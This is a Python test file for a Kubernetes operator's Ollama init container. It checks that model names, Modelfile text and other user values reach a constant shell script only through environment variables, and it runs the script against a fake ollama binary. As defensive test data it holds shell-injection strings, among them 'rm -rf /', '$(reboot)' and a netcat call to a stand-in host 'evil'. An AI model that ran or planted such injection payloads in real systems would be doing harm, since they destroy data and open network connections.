"""Ollama's pull-model init container: a constant script, values only through the environment.

The script is also executed here against a fake ``ollama`` executable that records its calls,
so the pull/create/copy logic is tested for real, not just read.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from render_cases import builtin_config, case, containers, make_model, make_plan

from slm_operator.render import render_children
from slm_operator.render.deployment import render_deployment
from slm_operator.render.ollama import PULL_SCRIPT

HOSTILE_SYSTEM = "$(touch /tmp/pwned) `id` ; rm -rf / # \"quoted\" 'single' && echo"
HOSTILE_MESSAGE = "${HOME} $(reboot) | nc evil 1"


def pull_container(model_spec: dict[str, Any], **plan: Any) -> dict[str, Any]:
    model = make_model(**model_spec)
    return containers(render_deployment(make_plan(model, **plan), builtin_config()))["pull-model"]


def test_init_container_runs_the_constant_script_with_values_in_env() -> None:
    init = pull_container(
        {"hardware": {"tier": "edge"}, "model": {"catalog": "smollm2-135m", "servedName": "tech"}}
    )
    assert init["command"] == ["/bin/sh", "-c", PULL_SCRIPT]
    assert "args" not in init
    env = {e["name"]: e["value"] for e in init["env"]}
    assert env["MODEL_TAG"] == "phi4-mini:3.8b-q4_K_M"
    assert env["SERVED_NAME"] == "tech"
    # Without a Modelfile the variable is not set at all: an empty value is dropped by the API
    # server (omitempty), so the stored object would differ from the rendered one forever.
    assert "MODELFILE" not in env
    assert env["PULL_POLICY"] == "always"
    assert init["image"] == builtin_config().images.ollama
    assert "nvidia.com/gpu" not in init["resources"].get("limits", {})


def test_no_user_value_reaches_the_script_text() -> None:
    spec: dict[str, Any] = {
        "hardware": {"tier": "cpu"},
        "model": {"source": "ollama://library/qwen3:4b-q4_K_M", "servedName": "evil:name/with.dots-and_x"},
        "ollama": {
            "modelfile": {
                "system": HOSTILE_SYSTEM,
                "template": "{{ .System }} $(whoami)",
                "parameters": {"stop": ["$(id)", "`uname`"]},
                "messages": [{"role": "user", "content": HOSTILE_MESSAGE}],
            }
        },
    }
    model = make_model("hostile", **spec)
    plan = make_plan(model, model_ref="library/qwen3:4b-q4_K_M", served_name="evil:name/with.dots-and_x")
    objects = render_children(model, plan, builtin_config(), monitoring_available=True)
    deployment = next(o for o in objects if o["kind"] == "Deployment")
    init = containers(deployment)["pull-model"]
    assert init["command"] == ["/bin/sh", "-c", PULL_SCRIPT]
    for value in ("library/qwen3", "evil:name", "$(touch", "$(whoami)", "$(id)", "`uname`", "$(reboot)"):
        assert value not in PULL_SCRIPT
    env = {e["name"]: e["value"] for e in init["env"]}
    assert env["MODEL_TAG"] == "library/qwen3:4b-q4_K_M"
    assert env["SERVED_NAME"] == "evil:name/with.dots-and_x"
    configmap = next(o for o in objects if o["kind"] == "ConfigMap")
    assert HOSTILE_SYSTEM in configmap["data"]["Modelfile"]  # the text goes to a file, never a shell


@pytest.mark.skipif(
    shutil.which("shellcheck", path=str(Path(sys.executable).parent)) is None, reason="no shellcheck"
)
def test_script_passes_shellcheck() -> None:
    shellcheck = shutil.which("shellcheck", path=str(Path(sys.executable).parent))
    assert shellcheck is not None
    result = subprocess.run(
        [shellcheck, "--shell=sh", "--severity=style", "-"],
        input=PULL_SCRIPT,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr


FAKE_OLLAMA = """#!/bin/sh
printf '%s\\n' "$*" >> "$FAKE_LOG"
case "$1" in
  serve) : > "$FAKE_LOG.up"; exec sleep 30 ;;
  list) [ -f "$FAKE_LOG.up" ] ;;
  pull) exit "$FAKE_PULL_EXIT" ;;
  show) [ "$FAKE_CACHED" = "yes" ] ;;
  create|cp) exit 0 ;;
esac
"""


def run_script(tmp_path: Path, **env: str) -> tuple[int, list[str]]:
    """Run PULL_SCRIPT with a fake ollama first on PATH; return its exit code and the calls."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    fake = bin_dir / "ollama"
    fake.write_text(FAKE_OLLAMA)
    fake.chmod(0o755)
    log = tmp_path / "calls.log"
    log.write_text("")
    environment = {
        "PATH": f"{bin_dir}:{os.environ.get('PATH', '/usr/bin:/bin')}",
        "FAKE_LOG": str(log),
        "TMPDIR": str(tmp_path),
        "FAKE_PULL_EXIT": "0",
        "FAKE_CACHED": "no",
        "MODEL_TAG": "qwen3:4b",
        "SERVED_NAME": "qwen",
        "PULL_POLICY": "always",
        "SERVER_START_TIMEOUT": "5",
        **env,
    }
    result = subprocess.run(
        ["/bin/sh", "-c", PULL_SCRIPT],
        env=environment,
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    calls = [line for line in log.read_text().splitlines() if line != "list"]
    return result.returncode, calls


@pytest.mark.parametrize(
    ("env", "expected_rc", "expected_calls"),
    [
        ({}, 0, ["serve", "pull qwen3:4b", "cp qwen3:4b qwen"]),
        ({"SERVED_NAME": "qwen3:4b"}, 0, ["serve", "pull qwen3:4b"]),
        (
            {"MODELFILE": "/etc/slm/modelfile/Modelfile"},
            0,
            ["serve", "pull qwen3:4b", "create qwen -f /etc/slm/modelfile/Modelfile"],
        ),
        (
            {"FAKE_PULL_EXIT": "1", "FAKE_CACHED": "yes"},
            0,
            ["serve", "pull qwen3:4b", "show qwen3:4b", "cp qwen3:4b qwen"],
        ),
        ({"FAKE_PULL_EXIT": "1"}, 1, ["serve", "pull qwen3:4b", "show qwen3:4b"]),
        (
            {"PULL_POLICY": "if-missing", "FAKE_CACHED": "yes"},
            0,
            ["serve", "show qwen3:4b", "cp qwen3:4b qwen"],
        ),
        ({"PULL_POLICY": "if-missing"}, 0, ["serve", "show qwen3:4b", "pull qwen3:4b", "cp qwen3:4b qwen"]),
        (
            {"PULL_POLICY": "never", "MODELFILE": "/etc/slm/modelfile/Modelfile"},
            0,
            ["serve", "create qwen -f /etc/slm/modelfile/Modelfile"],
        ),
        ({"PULL_POLICY": "bogus"}, 2, ["serve"]),
    ],
)
def test_script_pulls_then_creates_or_copies(
    tmp_path: Path, env: dict[str, str], expected_rc: int, expected_calls: list[str]
) -> None:
    rc, calls = run_script(tmp_path, **env)
    assert rc == expected_rc
    assert calls == expected_calls


def test_script_passes_hostile_values_as_single_arguments(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    rc, calls = run_script(tmp_path, MODEL_TAG=f"$(touch {marker})", SERVED_NAME="a b;c")
    assert rc == 0
    assert not marker.exists()
    assert calls[-1] == f"cp $(touch {marker}) a b;c"


def test_script_gives_up_when_the_server_never_answers(tmp_path: Path) -> None:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "ollama").write_text('#!/bin/sh\ncase "$1" in serve) exec sleep 30 ;; *) exit 1 ;; esac\n')
    (bin_dir / "ollama").chmod(0o755)
    environment = {
        "PATH": f"{bin_dir}:{os.environ.get('PATH', '/usr/bin:/bin')}",
        "MODEL_TAG": "x",
        "SERVED_NAME": "y",
        "PULL_POLICY": "always",
        "SERVER_START_TIMEOUT": "2",
        "TMPDIR": str(tmp_path),
    }
    result = subprocess.run(
        ["/bin/sh", "-c", PULL_SCRIPT],
        env=environment,
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    assert result.returncode == 1
    assert "did not answer within 2 s" in result.stderr


def test_closed_egress_pulls_only_when_missing_and_claims_never_pull() -> None:
    closed = pull_container({"hardware": {"tier": "cpu"}, "network": {"allowEgress": False}})
    assert {e["name"]: e["value"] for e in closed["env"]}["PULL_POLICY"] == "if-missing"
    _model, plan = case("ollama-pvc-source").build()
    init = containers(render_deployment(plan, builtin_config()))["pull-model"]
    env = {e["name"]: e["value"] for e in init["env"]}
    assert env["PULL_POLICY"] == "never"
    assert env["MODELFILE"] == "/etc/slm/modelfile/Modelfile"
    assert {m["mountPath"] for m in init["volumeMounts"]} >= {"/models", "/etc/slm/modelfile"}
